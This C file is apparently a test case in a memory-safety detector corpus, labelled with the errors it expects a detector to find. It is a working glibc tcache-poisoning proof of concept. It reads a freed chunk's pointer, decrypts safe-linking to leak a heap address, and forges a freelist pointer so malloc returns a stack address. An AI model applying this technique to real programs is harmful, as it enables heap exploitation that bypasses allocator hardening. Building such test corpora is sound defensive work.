/* SPDX-License-Identifier: MIT */
/* decrypt_safe_linking: read the encoded next pointer of a freed tcache
 * chunk (read after free), recover the heap address from it, then forge a
 * next pointer to a stack target with the recovered key.
 * EXPECT-FULL: write-after-free,freelist-corruption
 * EXPECT-FAST: freelist-corruption
 * glibc 2.36: attack succeeds. */
#include "corpus.h"

/* Undo ptr ^ (pos >> 12) when ptr and pos share their top bits. */
static uintptr_t decrypt(uintptr_t v)
{
	uintptr_t key = 0, plain = 0;
	for (int shift = 36; shift >= 0; shift -= 12) {
		plain = v ^ key;
		key = plain >> 12;
	}
	return plain;
}

int main(void)
{
	size_t target[8] __attribute__((aligned(16))) = {0};
	size_t *a = malloc(200), *b = malloc(200);
	free(a);
	free(b);
	uintptr_t leaked = decrypt(b[0]); /* should be a's chunk address */
	fprintf(stderr, "leak %s\n", leaked == (uintptr_t)a ? "worked" : "failed");
	b[0] = ((uintptr_t)b >> 12) ^ (uintptr_t)target; /* the forged next */
	void *x = malloc(200), *y = malloc(200);
	corpus_sink = x;
	return corpus_result(y == (void *)target);
}
